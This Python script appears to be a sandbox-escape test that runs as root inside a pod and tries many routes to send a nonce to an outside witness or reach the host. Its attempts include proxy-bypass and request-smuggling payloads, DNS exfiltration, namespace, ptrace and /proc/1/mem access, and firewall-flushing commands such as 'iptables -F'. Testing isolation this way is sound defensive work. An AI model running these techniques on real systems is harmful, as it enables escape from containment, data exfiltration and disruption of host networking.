"""Runs inside a pod as its root: tries in every way it knows to send one packet to the witness, or to reach the host, the control
socket or another pod. Prints a line an attempt; whoever runs it looks at what arrived at the witness, not at these lines."""
import ctypes
import glob
import os
import socket
import struct
import subprocess
import sys
import tempfile

NONCE = sys.argv[1].encode()
V4, V6 = ["1.1.1.1", "8.8.8.8", "169.254.169.254", "10.0.0.5"], ["2606:4700:4700::1111", "2001:4860:4860::8888"]
libc = ctypes.CDLL(None, use_errno=True)
attempts = 0


def attempt(title, action):
    global attempts
    attempts += 1
    try:
        print(attempts, title, "->", action() or "sent, or no error", flush=True)
    except BaseException as e:  # a thing that is refused may fail in any way
        print(attempts, title, "->", type(e).__name__, str(e)[:80], flush=True)


def tcp(address, port, data=NONCE):
    with socket.create_connection((address, port), 3) as s:
        s.sendall(data)
        s.settimeout(2)
        return repr(s.recv(60))


def udp(address, port, data=NONCE):
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        s.sendto(data, (address, port))
        return repr(s.recvfrom(60)[0])


def dns(address, name):
    query = struct.pack("!6H", 4711, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\0\0\1\0\1"
    return udp(address, 53, query)


def raw(family, protocol, address):
    with socket.socket(family, socket.SOCK_RAW, protocol) as s:
        s.sendto(b"\x08\0\0\0" + NONCE, (address, 0))


def syscall(number, *args):
    if libc.syscall(number, *args) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "succeeded"


def packet():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as s:
        s.bind(("lo", 0))
        s.send(b"\xff" * 12 + b"\x08\0" + NONCE)


def vsock():
    with socket.socket(40, socket.SOCK_STREAM) as s:
        s.settimeout(1)
        s.connect((2, 1024))


def setuid_bit():
    with tempfile.NamedTemporaryFile() as f:
        os.chmod(f.name, 0o4755)


def proxy(head):
    with socket.create_connection(("198.18.0.1", 8080), 3) as s:
        s.sendall(head)
        s.settimeout(2)
        answer = s.recv(200)
        if b" 200 " in answer[:20]:
            s.sendall(NONCE)
            answer += s.recv(60)
        return repr(answer[:60])


def socks(address, port, command=1, methods=b"\1\0"):
    """address: what stands in the request from the address type on."""
    with socket.create_connection(("198.18.0.1", 8080), 3) as s:
        s.sendall(b"\5" + methods + bytes([5, command, 0]) + address + struct.pack(">H", port) + NONCE)
        s.settimeout(2)
        answer = s.recv(2, socket.MSG_WAITALL)
        return repr(answer + s.recv(60))


def socks_name(name):
    return b"\3" + bytes([len(name)]) + name


def shell(command):
    done = subprocess.run(command, shell=True, capture_output=True, timeout=8, check=False)
    return "exit %d: %s" % (done.returncode, (done.stdout + done.stderr)[:70])


def compiled(source):
    with tempfile.TemporaryDirectory() as d:
        open(d + "/a.c", "w", encoding="ascii").write(source)
        built = subprocess.run(["gcc", "-o", d + "/a", d + "/a.c"], capture_output=True, check=False)
        if built.returncode:
            return "no compiler: %s" % built.stderr[:60]
        return shell(d + "/a")


URING = r"""
#include <stdio.h>
#include <errno.h>
#include <unistd.h>
#include <sys/syscall.h>
#include <string.h>
int main(void) { char p[256]; memset(p, 0, sizeof p); long r = syscall(425, 8, p); printf("io_uring_setup %ld errno %d\n", r, errno); return r < 0; }
"""
NETLINK = r"""
#include <stdio.h>
#include <string.h>
#include <errno.h>
#include <unistd.h>
#include <sys/socket.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
int main(void) {
	struct { struct nlmsghdr h; struct rtmsg r; } m; char in[512];
	int s = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
	if (s < 0) { perror("netlink"); return 1; }
	memset(&m, 0, sizeof m);
	m.h.nlmsg_len = sizeof m; m.h.nlmsg_type = RTM_DELROUTE; m.h.nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK;
	m.r.rtm_family = AF_INET; m.r.rtm_table = RT_TABLE_LOCAL; m.r.rtm_type = RTN_LOCAL; m.r.rtm_scope = RT_SCOPE_NOWHERE;
	send(s, &m, sizeof m, 0);
	recv(s, in, sizeof in, 0);
	struct nlmsgerr *e = NLMSG_DATA((struct nlmsghdr *)in);
	printf("delete the route: %s\n", strerror(-e->error));
	return 0;
}
"""


def main():
    for a in V4 + V6:
        attempt("TCP %s:80" % a, lambda a=a: tcp(a, 80))
        attempt("TCP %s:9999" % a, lambda a=a: tcp(a, 9999))
        attempt("UDP %s:9999" % a, lambda a=a: udp(a, 9999))
        attempt("QUIC %s:443" % a, lambda a=a: udp(a, 443, b"\xc0\0\0\0\1" + NONCE))
        attempt("DNS %s" % a, lambda a=a: dns(a, NONCE.decode() + ".example.com"))
    attempt("DoT", lambda: tcp("1.1.1.1", 853))
    attempt("raw ICMP", lambda: raw(socket.AF_INET, socket.IPPROTO_ICMP, "1.1.1.1"))
    attempt("raw ICMPv6", lambda: raw(socket.AF_INET6, 58, "2606:4700:4700::1111"))
    attempt("raw IP", lambda: raw(socket.AF_INET, socket.IPPROTO_RAW, "1.1.1.1"))
    attempt("ping socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP).sendto(b"\x08\0\0\0\0\0\0\0" + NONCE, ("1.1.1.1", 0)))
    attempt("packet socket", packet)
    attempt("SCTP", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect(("1.1.1.1", 9999)))
    attempt("UDP-Lite", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136).sendto(NONCE, ("1.1.1.1", 9999)))
    attempt("DCCP", lambda: socket.socket(socket.AF_INET, 6, 33).connect(("1.1.1.1", 9999)))
    attempt("multicast", lambda: udp("224.0.0.251", 5353))
    attempt("broadcast", lambda: udp("255.255.255.255", 9999))
    attempt("vsock", vsock)
    attempt("CONNECT witness", lambda: proxy(b"CONNECT 1.1.1.1:9999 HTTP/1.1\r\nHost: 1.1.1.1:9999\r\n\r\n"))
    attempt("GET witness", lambda: proxy(b"GET http://1.1.1.1/" + NONCE + b" HTTP/1.1\r\nHost: 1.1.1.1\r\n\r\n"))
    for spelling in (b"16843009", b"0x01010101", b"1.257", b"0001.1.1.1", b"[::ffff:1.1.1.1]", b"[2606:4700:4700::1111]", b"1.1.1.1.", b"1.1.1.1%00.googleapis.com",
                     b"googleapis.com@1.1.1.1", b"1.1.1.1#.googleapis.com", b"1.1.1.1/.googleapis.com"):
        attempt("GET %r" % spelling, lambda x=spelling: proxy(b"GET http://" + x + b"/ HTTP/1.1\r\nHost: " + x + b"\r\n\r\n"))
        attempt("CONNECT %r" % spelling, lambda x=spelling: proxy(b"CONNECT " + x + b":80 HTTP/1.1\r\nHost: " + x + b":80\r\n\r\n"))
    attempt("Host smuggled", lambda: proxy(b"GET http://storage.googleapis.com/ HTTP/1.1\r\nHost: 1.1.1.1\r\n\r\n"))
    attempt("two lengths", lambda: proxy(b"POST http://storage.googleapis.com/ HTTP/1.1\r\nHost: storage.googleapis.com\r\nContent-Length: 0\r\n"
                                         b"Content-Length: 60\r\n\r\nGET http://1.1.1.1/" + NONCE + b" HTTP/1.1\r\nHost: 1.1.1.1\r\n\r\n"))
    attempt("pipelined", lambda: proxy(b"GET http://storage.googleapis.com/ HTTP/1.1\r\nHost: storage.googleapis.com\r\n\r\nGET http://1.1.1.1/ HTTP/1.1\r\nHost: 1.1.1.1\r\n\r\n"))
    attempt("special name", lambda: proxy(b"GET http://private.googleapis.com/" + NONCE + b" HTTP/1.1\r\nHost: private.googleapis.com\r\n\r\n"))
    attempt("metadata name", lambda: proxy(b"CONNECT metadata.googleapis.com:80 HTTP/1.1\r\nHost: metadata.googleapis.com:80\r\n\r\n"))
    literal, literal6 = b"\1" + socket.inet_aton("1.1.1.1"), b"\4" + socket.inet_pton(socket.AF_INET6, V6[0])
    attempt("SOCKS witness", lambda: socks(literal, 9999))
    attempt("SOCKS witness, IPv6", lambda: socks(literal6, 9999))
    attempt("SOCKS mapped", lambda: socks(b"\4" + socket.inet_pton(socket.AF_INET6, "::ffff:1.1.1.1"), 80))
    attempt("SOCKS BIND", lambda: socks(literal, 9999, 2))
    attempt("SOCKS UDP", lambda: socks(literal, 9999, 3))
    attempt("SOCKS with a password", lambda: socks(literal, 9999, 1, b"\1\2"))
    for name in (b"1.1.1.1", b"16843009", b"1.1.1.1\0.googleapis.com", b"googleapis.com@1.1.1.1", NONCE + b".example.com",
                 b"private.googleapis.com", b"metadata.googleapis.com"):
        attempt("SOCKS %r" % name, lambda x=name: socks(socks_name(x), 80))
    attempt("host's address", lambda: tcp("20.10.0.2", 7777))
    attempt("other pod", lambda: tcp("198.18.0.2", 7777))
    attempt("other pod 2", lambda: tcp("198.18.0.3", 7777))
    attempt("control socket", lambda: repr(glob.glob("/run/stockade*/**", recursive=True) + glob.glob("/proc/*/root/run/stockade*")))
    for path in ("/run/stockade/demo/control.sock", "/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket"):
        attempt(path, lambda p=path: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect(p))
    attempt("abstract sockets", lambda: shell("cat /proc/net/unix | grep @ | head -3"))
    attempt("unshare user+net", lambda: syscall(272, 0x10000000 | 0x40000000))
    attempt("setns of pid 1", lambda: syscall(308, os.open("/proc/1/ns/net", os.O_RDONLY), 0))
    attempt("mount", lambda: syscall(165, b"none", b"/tmp", b"tmpfs", 0, None))
    attempt("fsopen", lambda: syscall(430, b"proc", 0))
    attempt("mknod", lambda: os.mknod("/tmp/mem", 0o600 | 0o020000, os.makedev(1, 1)))
    attempt("bpf", lambda: syscall(321, 0, 0, 0))
    attempt("ptrace pid 1", lambda: syscall(101, 16, 1, 0, 0))
    attempt("pid 1's memory", lambda: repr(open("/proc/1/mem", "rb").read(1)))
    attempt("pid 1's fds", lambda: repr(os.listdir("/proc/1/fd")))
    # Opened, not written: the control runs this outside of any pod.
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/net/ipv4/ip_forward", "/proc/sysrq-trigger"):
        attempt(path, lambda p=path: "opened, fd %d" % os.open(p, os.O_WRONLY))
    attempt("ip link add", lambda: shell("ip link add d0 type dummy"))
    attempt("ip route flush", lambda: shell("ip route flush table local"))
    attempt("nft flush", lambda: shell("nft flush ruleset"))
    attempt("iptables", lambda: shell("iptables -F"))
    attempt("sudo, su", lambda: shell("su -c id; sudo id"))
    attempt("setuid bit", setuid_bit)
    attempt("io_uring", lambda: compiled(URING))
    attempt("rtnetlink", lambda: compiled(NETLINK))
    attempt("fd hunting", lambda: repr([os.readlink("/proc/self/fd/%s" % f) for f in os.listdir("/proc/self/fd") if int(f) > 2][:4]))
    attempt("spoofed source", lambda: (lambda s: (s.setsockopt(0, 15, 1), s.bind(("20.10.0.2", 0)), s.sendto(NONCE, ("1.1.1.1", 9999))))(socket.socket(socket.AF_INET, socket.SOCK_DGRAM)))
    attempt("IP_TRANSPARENT", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM).setsockopt(0, 19, 1))
    attempt("SO_BINDTODEVICE", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM).setsockopt(1, 25, b"eth0"))
    attempt("take the gate's port", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM).bind(("0.0.0.0", 15001)))
    attempt("take the gate's address", lambda: (lambda s: (s.bind(("198.18.0.1", 8080)), s.listen(1)))(socket.socket(socket.AF_INET, socket.SOCK_STREAM)))
    print("attempts", attempts, flush=True)


main()
